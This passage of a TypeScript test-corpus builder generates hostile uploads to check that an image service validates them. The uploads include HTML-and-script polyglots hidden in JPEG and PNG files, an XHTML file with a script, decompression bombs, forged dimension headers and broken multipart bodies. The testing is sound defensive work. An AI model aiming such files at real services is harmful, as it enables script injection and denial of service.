  add('png-signature-then-noise', 'magic', Buffer.concat([PNG_SIGNATURE, noise(64 * 1024, 7)]), { filename: 'x.png', contentType: 'image/png' });
  add('noise-1kb', 'magic', noise(1024, 1), { want: NOT_AN_IMAGE });
  add('noise-256kb', 'magic', noise(256 * 1024, 2), { want: NOT_AN_IMAGE });
  add('zeros-1mb', 'magic', Buffer.alloc(1024 * 1024), { want: NOT_AN_IMAGE });
  add('ff-1mb', 'magic', Buffer.alloc(1024 * 1024, 0xff), { want: NOT_AN_IMAGE });
  add('text-hello', 'magic', Buffer.from('hello, this is not a photo\n'), { want: NOT_AN_IMAGE });
  add('elf-binary-header', 'magic', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), noise(4096, 3)]), { want: NOT_AN_IMAGE });
  add('pe-exe-header', 'magic', Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), noise(4096, 4)]), { want: NOT_AN_IMAGE });
  add('pdf-document', 'magic', Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'), { filename: 'x.pdf', contentType: 'application/pdf', want: NOT_AN_IMAGE });
  add('zip-archive', 'magic', zipArchive('a.txt', 'hello'), { filename: 'x.zip', contentType: 'application/zip', want: NOT_AN_IMAGE });
  add('gzip-stream', 'magic', Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), noise(512, 5)]), { want: NOT_AN_IMAGE });
  for (const [file, head] of [
    ['mp4-ftyp-isom', '\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41'],
    ['webm-ebml', '\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01webm'],
    ['wasm-module', '\x00asm\x01\x00\x00\x00'],
    ['java-class', '\xca\xfe\xba\xbe\x00\x00\x00\x34'],
    ['mach-o-binary', '\xcf\xfa\xed\xfe\x07\x00\x00\x01'],
    ['rtf-document', '{\\rtf1\\ansi '],
    ['postscript', '%!PS-Adobe-3.0\n'],
    ['xml-not-svg-root', '<?xml version="1.0"?><image xmlns="http://www.w3.org/2000/svg"><svg/></image>'],
  ] as const) {
    add(file, 'magic', Buffer.concat([Buffer.from(head, 'latin1'), noise(2048, file.length)]), { want: NOT_AN_IMAGE });
  }
  add('utf16-svg', 'magic', Buffer.from(`\uFEFF${svg(LOGO_SHAPES)}`, 'utf16le'), { filename: 'x.svg', contentType: 'image/svg+xml', want: NOT_AN_IMAGE });
  add('html-page', 'html', Buffer.from(html), { filename: 'logo.html', contentType: 'text/html', want: NOT_AN_IMAGE });
  add('html-named-svg', 'html', Buffer.from(html), { filename: 'logo.svg', contentType: 'image/svg+xml', want: NOT_AN_IMAGE });
  add('html-with-inline-svg', 'html', Buffer.from(`<html><body>${svg(LOGO_SHAPES)}</body></html>`), { filename: 'logo.svg', contentType: 'image/svg+xml', want: NOT_AN_IMAGE });
  add('xhtml-with-xml-declaration', 'html', Buffer.from(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`), { filename: 'logo.svg', contentType: 'image/svg+xml', want: NOT_AN_IMAGE });

  // Polyglots: valid images carrying something else. A decoder reads the image (201 is fine); the check
  // that matters is that what is stored is served back as an image, never as HTML.
  add('polyglot-jpeg-plus-zip', 'polyglot', Buffer.concat([jpeg, zipArchive('payload.html', html)]), { expect: ALL_EITHER });
  add('polyglot-jpeg-plus-html', 'polyglot', Buffer.concat([jpeg, Buffer.from(html)]), { filename: 'x.jpg.html', expect: ALL_EITHER });
  add('polyglot-jpeg-html-in-comment', 'polyglot', insertAfterSoi(jpeg, [jpegSegment(0xfe, Buffer.from(`*/=1;${html}/*`))]), { expect: ALL_EITHER });
  add('polyglot-png-script-in-text-chunk', 'polyglot', insertPngChunks(png, [pngChunk('tEXt', Buffer.from(`Comment\0${html}`, 'latin1'))]), { filename: 'x.png', contentType: 'image/png', expect: ALL_EITHER });
  add('polyglot-zip-then-jpeg', 'polyglot', Buffer.concat([zipArchive('a.txt', 'x'), jpeg]), { want: NOT_AN_IMAGE });
  add('polyglot-html-then-jpeg', 'polyglot', Buffer.concat([Buffer.from(html), jpeg]), { filename: 'x.html', contentType: 'text/html', want: NOT_AN_IMAGE });
  add('polyglot-gif-plus-jar', 'polyglot', Buffer.concat([await sharp(smallPng).gif().toBuffer(), zipArchive('META-INF/MANIFEST.MF', 'Manifest-Version: 1.0')]), { filename: 'x.gif', contentType: 'image/gif', want: NOT_AN_IMAGE });

  // Other image formats: not accepted.
  const other = async (file: string, bytes: Buffer | Promise<Buffer>, filename: string, contentType: string) => add(file, 'format', await bytes, { filename, contentType, want: NOT_AN_IMAGE });
  await other('format-gif', sharp(jpeg).gif().toBuffer(), 'x.gif', 'image/gif');
  await other('format-gif-animated', sharp(smallPng, { animated: true }).gif({ loop: 0 }).toBuffer(), 'x.gif', 'image/gif');
  await other('format-tiff', sharp(jpeg).tiff().toBuffer(), 'x.tiff', 'image/tiff');
  await other('format-tiff-big-endian-header', Buffer.concat([Buffer.from('MM\x00\x2a\x00\x00\x00\x08', 'latin1'), noise(1024, 9)]), 'x.tif', 'image/tiff');
  await other('format-avif', sharp(jpeg).avif({ effort: 0 }).toBuffer(), 'x.avif', 'image/avif');
  await other('format-bmp', Promise.resolve(bmp(64, 48)), 'x.bmp', 'image/bmp');
  await other('format-bmp-huge-dims', Promise.resolve(Buffer.concat([bmp(1, 1).subarray(0, 18), Buffer.from([0xff, 0xff, 0xff, 0x7f, 0xff, 0xff, 0xff, 0x7f]), bmp(1, 1).subarray(26)])), 'x.bmp', 'image/bmp');
  await other('format-heic-looking', Promise.resolve(Buffer.concat([Buffer.from('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic', 'latin1'), noise(2048, 6)])), 'IMG_0001.HEIC', 'image/heic');
  await other('format-heif-mif1', Promise.resolve(Buffer.concat([Buffer.from('\x00\x00\x00\x1cftypmif1\x00\x00\x00\x00mif1heicmiaf', 'latin1'), noise(2048, 8)])), 'x.heif', 'image/heif');
  await other('format-jpeg2000', Promise.resolve(Buffer.concat([Buffer.from('\x00\x00\x00\x0cjP  \r\n\x87\n', 'latin1'), noise(1024, 10)])), 'x.jp2', 'image/jp2');
  await other('format-jpegxl', Promise.resolve(Buffer.concat([Buffer.from([0xff, 0x0a]), noise(1024, 11)])), 'x.jxl', 'image/jxl');
  await other('format-ico', Promise.resolve(Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 32, 0]), Buffer.alloc(4), Buffer.from([22, 0, 0, 0]), smallPng])), 'favicon.ico', 'image/x-icon');
  await other('format-psd', Promise.resolve(Buffer.concat([Buffer.from('8BPS\x00\x01', 'latin1'), noise(1024, 12)])), 'x.psd', 'image/vnd.adobe.photoshop');
  await other('format-ppm', Promise.resolve(Buffer.concat([Buffer.from('P6\n64 48\n255\n'), Buffer.alloc(64 * 48 * 3, 0x80)])), 'x.ppm', 'image/x-portable-pixmap');
  await other('format-svgz', Promise.resolve(Buffer.concat([Buffer.from([0x1f, 0x8b]), deflateSync(Buffer.from(svg(LOGO_SHAPES)))])), 'x.svgz', 'image/svg+xml');

  // Decompression bombs and forged dimensions.
  add('png-bomb-1bit-30000x30000', 'bomb', zeroPng(30_000, 30_000, 1), { filename: 'bomb.png', contentType: 'image/png' });
  add('png-bomb-1bit-100000x20000', 'bomb', zeroPng(100_000, 20_000, 1), { filename: 'bomb.png', contentType: 'image/png' });
  add('png-bomb-grey-7000x7000-under-pixel-limit', 'bomb', zeroPng(7_000, 7_000, 8), { filename: 'big.png', contentType: 'image/png', expect: ALL_EITHER });
  add('png-ihdr-60000x60000-no-idat', 'bomb', Buffer.concat([PNG_SIGNATURE, ihdr(60_000, 60_000, 8, 6), pngChunk('IEND', Buffer.alloc(0))]), { filename: 'x.png', contentType: 'image/png' });
  add('png-forged-ihdr-60000x60000', 'forged', forgePngHeader(smallPng, { width: 60_000, height: 60_000 }), { filename: 'x.png', contentType: 'image/png' });
  add('png-forged-ihdr-60000x60000-bad-crc', 'forged', forgePngHeader(smallPng, { width: 60_000, height: 60_000 }, false), { filename: 'x.png', contentType: 'image/png' });
  add('png-forged-ihdr-2e31x1', 'forged', forgePngHeader(smallPng, { width: 0x7fffffff, height: 1 }), { filename: 'x.png', contentType: 'image/png' });
  add('png-forged-ihdr-0x0', 'forged', forgePngHeader(smallPng, { width: 0, height: 0 }), { filename: 'x.png', contentType: 'image/png' });
  add('png-forged-ihdr-7000x7000-data-16x16', 'forged', forgePngHeader(smallPng, { width: 7_000, height: 7_000 }), { filename: 'x.png', contentType: 'image/png' });
  add('png-forged-bit-depth-3', 'forged', forgePngHeader(smallPng, { bitDepth: 3 }), { filename: 'x.png', contentType: 'image/png' });
  add('png-forged-colour-type-5', 'forged', forgePngHeader(smallPng, { colourType: 5 }), { filename: 'x.png', contentType: 'image/png' });
  add('png-chunk-length-4gb', 'forged', Buffer.concat([PNG_SIGNATURE, ihdr(16, 16, 8, 6), Buffer.from([0xff, 0xff, 0xff, 0xf0]), Buffer.from('IDAT'), noise(64, 13)]), { filename: 'x.png', contentType: 'image/png' });
  add('png-garbage-iccp', 'forged', insertPngChunks(png, [pngChunk('iCCP', Buffer.concat([Buffer.from('icc\0\0'), deflateSync(noise(2048, 14))]))]), { filename: 'x.png', contentType: 'image/png', expect: ALL_EITHER });
  add('png-10000-chunks-idat-split-per-byte', 'forged', (() => {
    const raw = deflateSync(Buffer.alloc((1 + 16 * 4) * 16));
    const chunks = [...raw].map((byte) => pngChunk('IDAT', Buffer.from([byte])));
    return Buffer.concat([PNG_SIGNATURE, ihdr(16, 16, 8, 6), ...chunks, ...Array.from({ length: 10_000 - chunks.length }, () => pngChunk('tEXt', Buffer.from('k\0v'))), pngChunk('IEND', Buffer.alloc(0))]);
  })(), { filename: 'x.png', contentType: 'image/png', expect: ALL_EITHER });
  add('jpeg-forged-sof-65000x65000', 'forged', forgedHugeJpeg);
  // Within the pixel limit: a decoder may fill the missing scan with grey rather than fail.
  add('jpeg-forged-sof-7000x7000-data-16x16', 'forged', forgeJpegFrame(smallJpeg, { width: 7_000, height: 7_000 }), { expect: ALL_EITHER });
  add('jpeg-forged-sof-0x0', 'forged', forgeJpegFrame(smallJpeg, { width: 0, height: 0 }));
  add('jpeg-forged-sof-zero-components', 'forged', forgeJpegFrame(smallJpeg, { components: 0 }));
  add('jpeg-no-huffman-tables', 'forged', dropJpegSegments(jpeg, 0xc4), { expect: ALL_EITHER });
  add('jpeg-no-quantisation-tables', 'forged', dropJpegSegments(jpeg, 0xdb));
  add('jpeg-exif-ifd-loop', 'forged', insertAfterSoi(jpeg, [loopingExif()]), { expect: ALL_EITHER });
  add('jpeg-exif-count-4g', 'forged', insertAfterSoi(jpeg, [hugeCountExif()]), { expect: ALL_EITHER });
  add('jpeg-garbage-icc-profile', 'forged', insertAfterSoi(jpeg, [jpegSegment(0xe2, Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'), noise(4096, 15)]))]), { expect: ALL_EITHER });
  add('jpeg-300-app-segments', 'forged', insertAfterSoi(jpeg, Array.from({ length: 300 }, (_, i) => jpegSegment(0xe0 + (i % 16), noise(1000, 100 + i)))), { expect: ALL_EITHER });
  add('jpeg-scan-noise', 'forged', (() => {
    const sos = jpeg.indexOf(Buffer.from([0xff, 0xda]));
    return Buffer.concat([jpeg.subarray(0, sos + 20), noise(jpeg.length - sos - 22, 16), Buffer.from([0xff, 0xd9])]);
  })(), { expect: ALL_EITHER });
  add('webp-vp8l-forged-16384x16384', 'forged', forgeVp8l(smallWebpLossless, 16_384, 16_384), { filename: 'x.webp', contentType: 'image/webp' });
  add('webp-vp8-forged-16383x16383', 'forged', forgeVp8(webp, 16_383, 16_383), { filename: 'x.webp', contentType: 'image/webp' });
  add('webp-vp8x-canvas-16m-x-16m', 'forged', vp8xCanvas(smallWebpLossless, 16_777_216, 16_777_216), { filename: 'x.webp', contentType: 'image/webp' });
  add('webp-riff-size-4gb', 'forged', (() => {
    const out = Buffer.from(webp);
    out.writeUInt32LE(0xfffffff0, 4);
    return out;
  })(), { filename: 'x.webp', contentType: 'image/webp', expect: ALL_EITHER });

  // Over the size limits (and junk exactly at them).
  const validPadded = (size: number) => padTo(jpeg, size);
  add('oversize-photo-limit-plus-one', 'oversize', validPadded(PHOTO_MAX_BYTES + 1), { want: { photo: 413, product: 413, logo: 413 } });
  add('oversize-product-limit-plus-one', 'oversize', validPadded(TEMPLATE_IMAGE_MAX_BYTES + 1), { expect: { photo: 'accept' }, want: { product: 413, logo: 413 } });
  add('oversize-junk-exactly-photo-limit', 'oversize', padTo(Buffer.from([0xff, 0xd8, 0xff, 0xe0]), PHOTO_MAX_BYTES), { want: { product: 413, logo: 413 } });
  add('oversize-junk-exactly-product-limit', 'oversize', padTo(Buffer.from([0xff, 0xd8, 0xff, 0xe0]), TEMPLATE_IMAGE_MAX_BYTES));
  add('oversize-30mb', 'oversize', noise(30 * 1024 * 1024, 17), { want: { photo: 413, product: 413, logo: 413 } });

  files.push(...(await svgFiles(canary, forgedHugePng, forgedBigPng, smallPng, forgedHugeJpeg)));

  const entries: CorpusEntry[] = [];
  for (const file of files) {
    for (const { field, endpoint } of UPLOAD_FIELDS) {
      entries.push({
        name: `${file.file} → ${field}`,
        file: file.file,
        group: file.group,
        endpoint,
        field,
        bytes: file.bytes,
        filename: file.filename,
        contentType: file.contentType,
        expect: file.expect?.[field] ?? 'reject',
        want: file.want?.[field],
        slow: file.slowAt === field,
      });
    }
  }
  entries.push(...envelopeEntries(jpeg));
  return { entries, fileCount: files.length, cutoutProduct };
}

/** Broken multipart envelopes and wrong field names, for both endpoints. */
function envelopeEntries(jpeg: Buffer): CorpusEntry[] {
  const entries: CorpusEntry[] = [];
  const base = { bytes: jpeg, filename: 'prato.jpg', contentType: 'image/jpeg', group: 'envelope' };
  for (const endpoint of ['photo', 'art'] as const) {
    const field = endpoint === 'photo' ? 'photo' : 'product';
    for (const envelope of ['no-boundary', 'truncated-body', 'garbage-body', 'json-body', 'three-files', 'thirty-fields', 'file-as-text-field'] as const) {
      entries.push({ ...base, name: `envelope ${envelope} → ${endpoint}`, file: `envelope-${envelope}`, endpoint, field, expect: 'reject', envelope });
    }
    for (const wrong of ['image', 'file', field.toUpperCase(), `${field}[]`, `${field} `]) {
      entries.push({ ...base, name: `wrong field name "${wrong}" → ${endpoint}`, file: `wrong-field-${wrong}`, endpoint, field: wrong, expect: 'reject' });
    }
  }
  return entries;
}
